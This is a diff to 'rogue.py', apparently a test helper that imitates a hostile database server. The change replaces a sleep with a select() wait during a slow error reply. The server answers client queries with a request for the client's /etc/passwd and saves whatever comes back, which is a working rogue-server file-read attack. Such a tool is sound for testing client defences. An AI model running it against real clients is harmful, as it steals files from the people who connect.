@@ -12,10 +12,10 @@ usage: rogue.py KIND PORT FILE
 FILE gets what the client sent, after "ready".
 """
 
+import select
 import socket
 import struct
 import sys
-import time
 
 kind, port, path = sys.argv[1], int(sys.argv[2]), sys.argv[3]
 
@@ -60,7 +60,9 @@ def serve(peer):
         receive(peer)
         for octet in packet(1, b"\xff\x48\x04#HY000" + b"x" * 100):
             peer.sendall(bytes([octet]))
-            time.sleep(1)
+            # A second without a word of the client, which may leave before.
+            if select.select([peer], [], [], 1)[0]:
+                break
     while receive(peer):
         peer.sendall(packet(1, b"\xfb/etc/passwd"))
 
